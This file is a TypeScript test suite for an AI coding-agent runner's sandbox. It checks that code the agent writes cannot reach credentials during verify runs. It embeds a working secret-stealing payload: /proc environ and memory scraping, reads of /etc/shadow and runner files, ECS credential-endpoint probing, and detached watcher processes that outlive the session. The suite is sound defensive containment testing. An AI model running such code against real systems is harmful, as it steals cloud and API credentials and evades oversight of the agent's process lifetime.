import { execFile } from 'node:child_process';
import { randomBytes, randomUUID } from 'node:crypto';
import { chmod, chown, mkdir, readdir, readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { createGitHubStandIn, type GitHubStandIn } from '../../local/stand-ins/github-stand-in.js';
import { createFixtureOrigin, type FixtureOrigin } from '../support/git-fixtures.js';
import { type ServedStandIn, serveStandIn } from '../support/serve-stand-in.js';
import {
  buildJobSpec,
  createTempDir,
  isProcessAlive,
  RUNNER_MAIN,
  runDirs,
  runRunnerCli,
  writeFakeClaude,
} from './runner-support.js';

/**
 * Issue 10: a test the agent wrote read the runner's environment through /proc during verify and
 * the tokens came back out in the pull request. Here agent-written code does everything such code
 * can try — every process's environ, cmdline and mem, the runner's files and HOME, its own
 * environment, the credentials and metadata endpoints (a stand-in on 127.0.0.1 the runner is told
 * about, as ECS tells a task), a process left behind to read the push's environment — and none of
 * it may obtain a credential, nor may one reach result.json, the commit or the pushed branch.
 *
 * The secrets are random per test and only ever in the runner's environment (never in a file an
 * attacker could read, such as this test's source).
 */

// Every run here is a runner process (clone, the CLI, two verify runs, push) bounded by the
// harness's own 120 s limit; on a loaded machine one takes well over vitest's default.
vi.setConfig({ testTimeout: 120_000 });

const exec$ = promisify(execFile);
const SANDBOX_UID_BASE = 1_900_000_000;

let origin: FixtureOrigin;
let temp: Awaited<ReturnType<typeof createTempDir>>;
let github: GitHubStandIn;
let served: ServedStandIn;
let endpoint: FakeEcsEndpoint;
let secrets: Secrets;

interface Secrets {
  readonly githubToken: string;
  readonly anthropicKey: string;
  readonly awsAccessKeyId: string;
  readonly awsSecretAccessKey: string;
  readonly awsSessionToken: string;
  readonly containerAuthToken: string;
  readonly credentialsId: string;
  readonly metadataId: string;
}

function randomSecret(prefix: string, bytes = 24): string {
  return prefix + randomBytes(bytes).toString('base64url');
}

beforeEach(async () => {
  secrets = {
    githubToken: randomSecret('ghs_'),
    anthropicKey: randomSecret('sk-ant-api03-'),
    awsAccessKeyId: `ASIA${randomBytes(8).toString('hex').toUpperCase()}`,
    awsSecretAccessKey: randomSecret('', 30),
    awsSessionToken: randomSecret('IQoJ', 60),
    containerAuthToken: randomSecret('', 24),
    credentialsId: randomUUID(),
    metadataId: randomBytes(16).toString('hex'),
  };
  origin = await createFixtureOrigin();
  temp = await createTempDir('bugbot-sandbox-test-');
  github = createGitHubStandIn({ tokens: [secrets.githubToken] });
  github.addRepository({ owner: 'acme', repo: 'shop', bareDir: origin.originPath, defaultBranch: 'main' });
  served = await serveStandIn(github);
  endpoint = await startFakeEcsEndpoint(secrets);
});

afterEach(async () => {
  await endpoint.close();
  await served.close();
  await temp.cleanup();
  await origin.cleanup();
});

/** What the runner's environment holds in a task: the secrets, the AWS and ECS variables. */
function taskEnvironment(): Record<string, string> {
  return {
    ANTHROPIC_API_KEY: secrets.anthropicKey,
    GITHUB_TOKEN: secrets.githubToken,
    AWS_ACCESS_KEY_ID: secrets.awsAccessKeyId,
    AWS_SECRET_ACCESS_KEY: secrets.awsSecretAccessKey,
    AWS_SESSION_TOKEN: secrets.awsSessionToken,
    AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: `/v2/credentials/${secrets.credentialsId}`,
    AWS_CONTAINER_CREDENTIALS_FULL_URI: `${endpoint.url}/v2/credentials/${secrets.credentialsId}`,
    AWS_CONTAINER_AUTHORIZATION_TOKEN: secrets.containerAuthToken,
    ECS_CONTAINER_METADATA_URI_V4: `${endpoint.url}/v4/${secrets.metadataId}`,
  };
}

function secretValues(): string[] {
  return Object.values(secrets);
}

/** Every secret, plain, base64 and hex, and reversed (as the attacker printed them). */
function secretForms(): string[] {
  return secretValues().flatMap((value) => [
    value,
    Buffer.from(value).toString('base64').replace(/=+$/, ''),
    Buffer.from(value).toString('hex'),
    [...value].reverse().join(''),
  ]);
}

function expectNoSecretIn(label: string, text: string): void {
  for (const form of secretForms()) {
    expect(text.includes(form), `${label} holds a secret (${form.slice(0, 6)}…)`).toBe(false);
  }
}

/**
 * The agent-written test: a `node:test` file doing what such code can. It reports what it found
 * on stdout (so into verify's output and result.json if anything leaked) and in `drop/` (a
 * world-writable directory standing for the network).
 */
function buildStealingTest(drop: string, port: number): string {
  return String.raw`import { test } from 'node:test';
import { spawn } from 'node:child_process';
import { closeSync, openSync, readdirSync, readFileSync, readSync, writeFileSync } from 'node:fs';
import { get } from 'node:http';
import { resolve } from 'node:path';

const DROP = ${JSON.stringify(drop)};
const PORT = ${port};
const attempt = (fn) => { try { return fn(); } catch (error) { return 'ERR:' + (error.code ?? error.message); } };

function readProcesses() {
  const found = {};
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    found[pid] = {
      environ: attempt(() => readFileSync('/proc/' + pid + '/environ', 'latin1')),
      cmdline: attempt(() => readFileSync('/proc/' + pid + '/cmdline', 'latin1')),
      mem: attempt(() => { const fd = openSync('/proc/' + pid + '/mem', 'r'); const b = Buffer.alloc(64); readSync(fd, b, 0, 64, 0x400000); closeSync(fd); return 'read'; }),
      status: attempt(() => readFileSync('/proc/' + pid + '/status', 'latin1')),
    };
  }
  return found;
}

function ancestors() {
  const chain = [];
  let pid = process.pid;
  while (pid > 1 && chain.length < 12) {
    const status = attempt(() => readFileSync('/proc/' + pid + '/status', 'latin1'));
    const uid = /Uid:\s+(\d+)/.exec(status)?.[1];
    chain.push({ pid, uid: Number(uid), environ: attempt(() => readFileSync('/proc/' + pid + '/environ', 'latin1')), fds: attempt(() => readdirSync('/proc/' + pid + '/fd')), cwd: attempt(() => readdirSync('/proc/' + pid + '/cwd')) });
    pid = Number(/PPid:\s+(\d+)/.exec(status)?.[1] ?? 0);
  }
  return chain;
}

function readFiles() {
  const runRoot = resolve(process.cwd(), '../../..');
  const files = {};
  for (const path of [runRoot, runRoot + '/runner', runRoot + '/runner/git-home', runRoot + '/runner/verify-before.log', runRoot + '/agent-home', runRoot + '/agent-home/.claude', runRoot + '/agent-settings/settings.json', runRoot + '/runner.git/config', runRoot + '/workspace', resolve(runRoot, '..'), resolve(runRoot, '../job.json'), resolve(runRoot, '../result.json'), '/root', '/etc/shadow', process.env.HOME]) {
    files[path] = attempt(() => readdirSync(path).join(',')) ;
    if (String(files[path]).startsWith('ERR:ENOTDIR')) files[path] = attempt(() => readFileSync(path, 'latin1'));
  }
  return files;
}

function fetchText(path) {
  return new Promise((done) => {
    const request = get({ host: '127.0.0.1', port: PORT, path, timeout: 2000 }, (response) => {
      let body = '';
      response.on('data', (chunk) => { body += chunk; });
      response.on('end', () => done(response.statusCode + ' ' + body));
    });
    request.on('error', (error) => done('ERR:' + error.code));
    request.on('timeout', () => request.destroy());
  });
}

test('reads whatever it can reach', async () => {
  const endpoints = {};
  for (const path of ['/', '/v2/credentials', '/v2/credentials/', '/v2/metadata', '/v3', '/v4', '/v4/', '/task', '/latest/meta-data/iam/security-credentials/']) {
    endpoints[path] = await fetchText(path);
  }
  const report = {
    uid: process.getuid(),
    env: process.env,
    self: attempt(() => readFileSync('/proc/self/environ', 'latin1')),
    ancestors: ancestors(),
    processes: readProcesses(),
    files: readFiles(),
    tcp: attempt(() => readFileSync('/proc/net/tcp', 'latin1')),
    endpoints,
  };
  writeFileSync(DROP + '/verify-' + process.pid + '.json', JSON.stringify(report));
  console.log('LOOT ' + JSON.stringify(report));

  // Left behind to read the push's environment: a new session, so no process-group kill reaches it.
  const watcher = spawn(process.execPath, ['-e', ${JSON.stringify(buildWatcher(drop))}], { detached: true, stdio: 'ignore' });
  watcher.unref();
  writeFileSync(DROP + '/watcher-pids', String(watcher.pid) + '\n', { flag: 'a' });
});
`;
}

/** A process that watches every environ and cmdline for two minutes, writing what looks secret. */
function buildWatcher(drop: string): string {
  return String.raw`
const fs = require('node:fs');
const out = ${JSON.stringify(drop)} + '/watcher-' + process.pid + '.txt';
const deadline = Date.now() + 120000;
const look = () => {
  for (const pid of fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n))) {
    for (const file of ['environ', 'cmdline']) {
      try {
        const text = fs.readFileSync('/proc/' + pid + '/' + file, 'latin1');
        if (/TOKEN|KEY|AWS_|Authorization|extraheader/i.test(text)) fs.appendFileSync(out, pid + ' ' + file + ' ' + text + '
');
      } catch {}
    }
  }
  if (Date.now() < deadline) setTimeout(look, 20);
};
look();
`;
}

async function runStealingAgent() {
  const drop = join(temp.path, 'drop');
  await mkdir(drop);
  await chmod(drop, 0o777);
  const stealing = buildStealingTest(drop, endpoint.port);
  const claudeBin = await writeFakeClaude(
    join(temp.path, 'bin'),
    `
cat > src/steal.test.js <<'BUGBOT_EVIL'
${stealing}
BUGBOT_EVIL
sed -i 's/let i = 1;/let i = 0;/' src/cart.js
# The agent user tries too: every environ it can read.
for f in /proc/[0-9]*/environ; do cat "$f" 2>/dev/null | tr '\\0' '\\n'; echo; done > "$HOME/agent-loot.txt"
# And leaves a watcher in a new session, to read the push's environment.
setsid sh -c 'echo $$ > "$HOME/agent-background.pid"; while :; do for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f" 2>/dev/null | grep -E "TOKEN|AWS_|extraheader" >> "$HOME/agent-watch.txt"; done; sleep 0.05; done' > /dev/null 2>&1 &
sleep 0.3
`,
  );
  const run = await runRunnerCli({
    job: buildJobSpec(origin, {
      repo: { cloneUrl: `${served.baseUrl}/acme/shop.git`, baseBranch: 'main' },
      verify: { command: 'node --test', timeoutSeconds: 60 },
      limits: { maxTurns: 12, maxBudgetUsd: 5, timeoutSeconds: 90, maxChangedFiles: 5, maxDiffLines: 400 },
    }),
    workDir: temp.path,
    env: { CLAUDE_BIN: claudeBin, ...taskEnvironment() },
  });
  return { run, drop };
}

describe('agent-written code run by verify reaches no credential', () => {
  it('reads /proc, files, env and the endpoints, leaves a watcher for the push: nothing leaks anywhere', async () => {
    const { run, drop } = await runStealingAgent();
    expect(run.result.rejected).toEqual([]);
    expect(run.result.status).toBe('pushed');
    expect(run.result.reproduction).toMatchObject({ tests: ['src/steal.test.js'] });
    expect(run.result.reproduction?.before).toBeDefined();
    expect(run.result.verify?.exitCode).toBe(0);

    // The attack ran, twice (before and after), as the tests user.
    const reports = (await readdir(drop)).filter((name) => name.startsWith('verify-'));
    expect(reports).toHaveLength(2);
    for (const name of reports) {
      const text = await readFile(join(drop, name), 'utf8');
      expectNoSecretIn(`drop/${name}`, text);
      const report = JSON.parse(text) as StolenReport;
      expect(report.uid).toBeGreaterThanOrEqual(SANDBOX_UID_BASE);
      // Its own environment was readable, and is the from-scratch one.
      expect(report.self).toContain('CI=1');
      // (sh adds PWD, node --test NODE_TEST_CONTEXT for the file's own process.)
      expect(
        Object.keys(report.env)
          .filter((name) => name !== 'NODE_TEST_CONTEXT')
          .sort(),
      ).toEqual([
        'CI',
        'GIT_CONFIG_GLOBAL',
        'GIT_CONFIG_NOSYSTEM',
        'GIT_TERMINAL_PROMPT',
        'HOME',
        'LANG',
        'PATH',
        'PWD',
        'TMPDIR',
        'npm_config_cache',
        'npm_config_update_notifier',
      ]);
      // The runner (its root ancestor, with the secrets in its environment) was there and refused it.
      const runner = report.ancestors.find((ancestor) => ancestor.uid === 0);
      expect(runner?.environ).toBe('ERR:EACCES');
      expect(runner?.fds).toBe('ERR:EACCES');
      expect(report.processes[String(runner?.pid)]?.mem).toBe('ERR:EACCES');
      // No other user's process was readable at all: every environ it read was its own user's.
      for (const [pid, seen] of Object.entries(report.processes)) {
        if (seen.environ.startsWith('ERR:')) continue;
        expect(/^Uid:\s+(\d+)/m.exec(seen.status)?.[1], `read the environ of ${pid}`).toBe(
          String(report.uid),
        );
      }
      // The runner's files: nothing private could be listed or read.
      const runRoot = runDirs(temp.path).root;
      for (const path of [
        runRoot,
        `${runRoot}/runner`,
        `${runRoot}/runner/git-home`,
        `${runRoot}/runner/verify-before.log`,
        `${runRoot}/agent-home`,
        `${runRoot}/agent-home/.claude`,
        `${runRoot}/agent-settings/settings.json`,
        `${runRoot}/runner.git/config`,
        `${runRoot}/workspace`,
        temp.path,
        `${temp.path}/job.json`,
        '/root',
        '/etc/shadow',
      ]) {
        expect(report.files[path], path).toMatch(/^ERR:(EACCES|ENOENT)/);
      }
      // The endpoints: the port is known, the credentials id is not.
      expect(Object.values(report.endpoints).every((answer) => answer.startsWith('404'))).toBe(true);
    }
    expect(endpoint.requests.length).toBeGreaterThanOrEqual(18);
    expect(endpoint.requests.filter((request) => request.status !== 404)).toEqual([]);

    // Nothing left behind outlived its verify run, and the watchers saw no secret.
    const watchers = (await readFile(join(drop, 'watcher-pids'), 'utf8')).trim().split('\n').map(Number);
    expect(watchers).toHaveLength(2);
    for (const pid of watchers) expect(await isProcessAlive(pid)).toBe(false);
    for (const name of (await readdir(drop)).filter(
      (file) => file.startsWith('watcher-') && file.endsWith('.txt'),
    )) {
      expectNoSecretIn(`drop/${name}`, await readFile(join(drop, name), 'utf8'));
    }

    // The agent's user saw only its own key (its environment), no other secret.
    const agentHome = join(runDirs(temp.path).root, 'agent-home');
    const agentLoot = await readFile(join(agentHome, 'agent-loot.txt'), 'utf8');
    expect(agentLoot).toContain(`ANTHROPIC_API_KEY=${secrets.anthropicKey}`);
    for (const value of secretValues().filter((value) => value !== secrets.anthropicKey)) {
      expect(agentLoot.includes(value)).toBe(false);
    }
    expect(
      await isProcessAlive(Number(await readFile(join(agentHome, 'agent-background.pid'), 'utf8'))),
    ).toBe(false);

    // Nothing of a secret in result.json, the verify logs, the commit or the pushed branch.
    expectNoSecretIn('result.json', await readFile(join(temp.path, 'result.json'), 'utf8'));
    for (const log of ['verify-before.log', 'verify-after.log']) {
      expectNoSecretIn(log, await readFile(join(runDirs(temp.path).root, 'runner', log), 'utf8'));
    }
    const branch = 'bugbot/job-test-1';
    expect(await origin.readBranch(branch)).toBe(run.result.headCommit);
    expectNoSecretIn('commit', await origin.git(['cat-file', 'commit', branch]));
    const files = (await origin.git(['ls-tree', '-r', '--name-only', branch])).split('\n').filter(Boolean);
    for (const file of files) expectNoSecretIn(file, await origin.readFile(branch, file));
  }, 180_000);
});

describe('without root, agent-written code does not run at all', () => {
  it('runs the agent as the runner itself, does not run verify, and says why', async () => {
    // A plain user, as on a developer's machine: the origin, the work directory and the agent
    // script are that user's.
    const uid = SANDBOX_UID_BASE - 1000 - Math.floor(Math.random() * 1000);
    const marker = join(temp.path, 'work', 'VERIFY_RAN');
    await exec$('chown', ['-R', `${uid}:${uid}`, origin.root]);
    await mkdir(join(temp.path, 'work'));
    const claudeBin = await writeFakeClaude(
      join(temp.path, 'work', 'bin'),
      `id -u > "$HOME/agent-uid"\nsed -i 's/let i = 1;/let i = 0;/' src/cart.js\necho 'x' > src/x.test.js`,
    );
    await exec$('chown', ['-R', `${uid}:${uid}`, join(temp.path, 'work')]);
    const { spawn } = await import('node:child_process');
    const { createRequire } = await import('node:module');
    const { pathToFileURL } = await import('node:url');
    const { writeFile } = await import('node:fs/promises');
    const work = join(temp.path, 'work');
    const jobPath = join(work, 'job.json');
    await writeFile(
      jobPath,
      JSON.stringify(buildJobSpec(origin, { verify: { command: `touch ${marker}` } })),
    );
    await chown(jobPath, uid, uid);
    const tsx = pathToFileURL(createRequire(import.meta.url).resolve('tsx')).href;
    const exitCode = await new Promise<number | null>((resolve, reject) => {
      const child = spawn(
        process.execPath,
        [
          '--import',
          tsx,
          RUNNER_MAIN,
          '--job',
          jobPath,
          '--result',
          join(work, 'result.json'),
          '--work-dir',
          join(work, 'run'),
        ],
        {
          cwd: work,
          uid,
          gid: uid,
          env: {
            PATH: process.env.PATH ?? '/usr/bin:/bin',
            HOME: work,
            ANTHROPIC_API_KEY: secrets.anthropicKey,
            CLAUDE_BIN: claudeBin,
          },
          stdio: 'ignore',
        },
      );
      child.once('error', reject);
      child.once('close', resolve);
    });
    const result = JSON.parse(await readFile(join(work, 'result.json'), 'utf8'));
    expect(exitCode).toBe(0);
    expect(result).toMatchObject({
      status: 'pushed',
      verify: {
        command: `touch ${marker}`,
        exitCode: null,
        outputTail: expect.stringContaining(
          '[bugbot] verify was not run: the runner does not run as root, so it cannot run code the agent wrote as a user of its own',
        ),
      },
    });
    expect(result.reproduction).toBeUndefined();
    expect(await readFile(marker).catch(() => null)).toBeNull();
    expect((await readFile(join(work, 'run', 'agent-home', 'agent-uid'), 'utf8')).trim()).toBe(String(uid));
  }, 120_000);
});

interface StolenReport {
  uid: number;
  env: Record<string, string>;
  self: string;
  ancestors: Array<{ pid: number; uid: number; environ: string; fds: string }>;
  processes: Record<string, { environ: string; cmdline: string; mem: string; status: string }>;
  files: Record<string, string>;
  endpoints: Record<string, string>;
}

interface FakeEcsEndpoint {
  readonly url: string;
  readonly port: number;
  readonly requests: Array<{ path: string; status: number }>;
  close(): Promise<void>;
}

/**
 * The task's credentials and metadata endpoint as ECS runs it (169.254.170.2, here on 127.0.0.1):
 * credentials at `/v2/credentials/<id>` for whoever knows the id (the IAM roles for tasks docs), task
 * metadata at the `ECS_CONTAINER_METADATA_URI_V4` path. Anything else is a 404.
 */
async function startFakeEcsEndpoint(values: Secrets): Promise<FakeEcsEndpoint> {
  const requests: Array<{ path: string; status: number }> = [];
  const server: Server = createServer((req, res) => {
    const path = req.url ?? '/';
    let status = 404;
    let body: unknown = { message: 'not found' };
    if (path === `/v2/credentials/${values.credentialsId}`) {
      status = 200;
      body = {
        RoleArn: 'arn:aws:iam::000000000000:role/bugbot-fix-runner',
        AccessKeyId: values.awsAccessKeyId,
        SecretAccessKey: values.awsSecretAccessKey,
        Token: values.awsSessionToken,
        Expiration: new Date(Date.now() + 3_600_000).toISOString(),
      };
    } else if (path.startsWith(`/v4/${values.metadataId}`)) {
      status = 200;
      body = { TaskARN: 'arn:aws:ecs:us-east-1:000000000000:task/bugbot/x', Containers: [] };
    }
    requests.push({ path, status });
    res.writeHead(status, { 'content-type': 'application/json' });
    res.end(JSON.stringify(body));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    port,
    requests,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}
